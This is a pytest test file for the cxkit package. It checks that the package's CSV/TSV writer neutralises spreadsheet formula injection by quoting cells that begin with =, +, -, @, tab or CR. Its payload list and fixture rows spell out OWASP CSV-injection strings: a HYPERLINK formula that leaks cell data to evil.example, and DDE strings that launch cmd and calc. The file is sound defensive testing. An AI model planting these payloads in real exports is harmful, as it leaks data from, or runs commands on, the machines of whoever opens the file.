"""Every CSV/TSV cxkit writes is safe to open in a spreadsheet (issue 24, "CSV injection").

The payloads are OWASP's ("CSV Injection", owasp.org/www-community/attacks/CSV_Injection) and
the cells the issue found raw in rejected-row files.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
from conftest import PROJECT

from cxkit.safe_files import FORMULA_STARTS, neutralise, neutralise_frame, write_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1)|cmd",
    "@cmd",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+47 912 34 567",  # a phone number with spaces is text: a spreadsheet would evaluate it
    "-",  # an export's "not answered"
    "-inf",
]
NUMBERS = ["-3", "-0.5", "+47", "-1,5", "1e5", "-1E-5", "+.5", "0", "3."]
HARMLESS = ["Oslo", "", " =1 (a leading space is not a formula)", "'=already quoted", "Malmö; =1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", NUMBERS + HARMLESS)
def test_numbers_and_ordinary_text_are_left_alone(number):
    assert neutralise(number) == number


def test_non_text_values_are_left_alone():
    for value in (-3, -0.5, np.int64(-3), np.nan, None, True, pd.Timestamp("2026-01-01")):
        assert neutralise(value) is value


def test_every_owasp_character_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def _spreadsheet_cells(path, sep=","):
    """What a spreadsheet sees: the raw fields as the csv module splits them (quotes removed)."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle, delimiter=sep))


@pytest.mark.parametrize("sep", [",", "\t"])
def test_written_file_has_no_formula_and_reads_back(tmp_path, sep):
    frame = pd.DataFrame(
        {
            "=SUM(A1:A9)": PAYLOADS,
            "line": range(2, 2 + len(PAYLOADS)),
            "score": [-3.5] * len(PAYLOADS),
            "text": (NUMBERS + HARMLESS)[: len(PAYLOADS)],
        }
    )
    path = write_csv(frame, tmp_path / ("rejected.csv" if sep == "," else "rejected.tsv"), sep=sep)
    rows = _spreadsheet_cells(path, sep)
    for row in rows:
        for cell in row:
            # a cell may start with a trigger only when it is a plain number
            assert cell[:1] not in FORMULA_STARTS or neutralise(cell) == cell, cell
    assert rows[0] == ["'=SUM(A1:A9)", "line", "score", "text"]
    back = pd.read_csv(path, sep=sep, keep_default_na=False, dtype={"text": str})
    assert back["'=SUM(A1:A9)"].tolist() == ["'" + p for p in PAYLOADS]
    assert back["line"].tolist() == frame["line"].tolist()  # numbers are numbers
    assert back["score"].tolist() == [-3.5] * len(PAYLOADS)
    assert back["text"].tolist() == frame["text"].tolist()  # "-3" stays "-3"
    assert frame.columns[0] == "=SUM(A1:A9)"  # the input is not modified


def test_text_cells_are_quoted_so_a_semicolon_excel_keeps_them_whole(tmp_path):
    # Danish, Swedish and Norwegian Excel split CSV files on ";": unquoted, "Malmö; =1" would
    # become a second cell starting with "=" there.
    path = write_csv(pd.DataFrame({"comment": ["Malmö; =1"], "nps": [7]}), tmp_path / "x.csv")
    assert path.read_text(encoding="utf-8") == '"comment","nps"\n"Malmö; =1",7\n'
    cells = _spreadsheet_cells(path, sep=";")
    assert cells[1] == ["Malmö; =1,7"]  # one quoted cell, not split at the ";"


def test_column_kinds(tmp_path):
    frame = pd.DataFrame(
        {
            "obj": pd.Series(["=1", -3, None, "x"], dtype=object),  # mixed object column
            "string": pd.array(["@a", None, "b", "-2"], dtype="string"),
            "cat": pd.Categorical(["+x", "y", "+x", None]),
            "int": pd.array([1, None, -3, 4], dtype="Int64"),
            "when": pd.to_datetime(["2026-01-01", None, "2026-01-03", "2026-01-04"]),
            "flag": [True, False, True, False],
        }
    )
    safe = neutralise_frame(frame)
    assert safe["obj"].tolist()[0] == "'=1" and safe["obj"].tolist()[1] == -3
    assert safe["string"].tolist()[0] == "'@a" and safe["string"].tolist()[3] == "-2"
    assert safe["cat"].tolist()[0] == "'+x"
    pd.testing.assert_series_equal(safe["int"], frame["int"])
    pd.testing.assert_series_equal(safe["when"], frame["when"])
    back = pd.read_csv(write_csv(frame, tmp_path / "kinds.csv"))
    assert back["int"].tolist()[2] == -3 and back["flag"].tolist() == [True, False, True, False]


def test_duplicate_and_non_text_headers():
    frame = pd.DataFrame([[1, 2, 3]], columns=["=a", "=a", 5])
    assert neutralise_frame(frame).columns.tolist() == ["'=a", "'=a", "5"]


def test_a_million_cells_are_screened_without_a_python_step_per_cell():
    # Only the 1,000 cells that start like a formula are looked at in Python: the profiler sees
    # a few thousand events plus about 8 per such cell (11,633 in all with pandas 3.1), while a
    # step in Python per cell (a map, a comprehension, an isinstance per value) makes at least
    # one per cell, a million. A count of calls, not a stopwatch (the time is for benchmarks).
    column = pd.Series(np.where(np.arange(1_000_000) % 1000 == 0, "=1+1", "Ålesund"), dtype=object)
    frame = column.to_frame("city")
    events = 0

    def count(_frame, _event, _arg):
        nonlocal events
        events += 1

    sys.setprofile(count)
    try:
        safe = neutralise_frame(frame)
    finally:
        sys.setprofile(None)
    assert (safe["city"] == "'=1+1").sum() == 1000
    assert events < 100_000, events


def test_validate_writes_neutralised_rejected_rows_and_data_quality(tmp_path):
    """`cxkit validate` end to end: the rejected rows of a hostile export and data_quality.csv."""
    rows = ["response_id,responded_at,nps,=SUM(A1:A9)"]
    rows.append("r1,2026-01-05,9,fine")
    rows.append('r2,2026-01-06,11,"=HYPERLINK(""http://evil.example"",""x"")"')
    rows.append("r3,2026-01-07,12,+SUM(1)|cmd")
    rows.append("r4,2026-01-08,-3,@cmd")
    rows.append("r5,2026-01-09,-2+3+cmd|' /C calc'!A0,x")
    rows += [f"r{i},2026-01-10,8,ok" for i in range(6, 40)]
    (tmp_path / "feedback.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    (tmp_path / "cxkit.yaml").write_text(
        "sources:\n  feedback: {path: feedback.csv, max_rejected: 0.5}\n  '=cmd': {table: reviews, path: missing.csv}\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    done = subprocess.run(
        [sys.executable, "-m", "cxkit", "validate", "--catalog", str(tmp_path / "cxkit.yaml"), "--out", str(out)],
        capture_output=True,
        text=True,
        cwd=PROJECT,
        timeout=300,
    )
    assert done.returncode == 1, done.stderr  # the missing file is not usable
    written = sorted(p.name for p in out.iterdir())
    assert written == ["data_quality.csv", "feedback.rejected.csv"]
    for name in written:
        for row in _spreadsheet_cells(out / name):
            for cell in row:
                assert cell[:1] not in FORMULA_STARTS or neutralise(cell) == cell, (name, cell)
    rejected = pd.read_csv(out / "feedback.rejected.csv", dtype=str, keep_default_na=False)
    assert "'=SUM(A1:A9)" in rejected.columns
    cells = set(rejected.to_numpy().ravel().tolist())
    assert {'\'=HYPERLINK("http://evil.example","x")', "'+SUM(1)|cmd", "-3"} <= cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells
    quality = pd.read_csv(out / "data_quality.csv")
    assert quality["source"].tolist() == ["feedback", "'=cmd"]
    assert quality["rejected"].tolist()[0] == 4


def test_sample_files_hold_no_formula():
    """The sample generator's CSVs are inputs kept byte for byte (not written through
    write_csv); the only cells that start like a formula are its phone numbers."""
    for path in sorted((PROJECT / "data" / "sample").rglob("*.csv")):
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        text = frame.to_numpy().ravel()
        starts = pd.Series(text).str[:1]
        suspicious = text[starts.isin(FORMULA_STARTS).to_numpy()]
        assert all(cell.startswith("+4") and cell[1:].replace(" ", "").isdigit() for cell in suspicious), path
        assert not any(str(c)[:1] in FORMULA_STARTS for c in frame.columns)


def test_csv_module_agrees_on_quoting():
    # A quoted cell with a doubled quote reads back as one cell with one quote.
    buffer = io.StringIO()
    neutralise_frame(pd.DataFrame({"a": ['=say "hi"']})).to_csv(buffer, index=False, quoting=csv.QUOTE_NONNUMERIC)
    assert list(csv.reader(io.StringIO(buffer.getvalue())))[1] == ['\'=say "hi"']
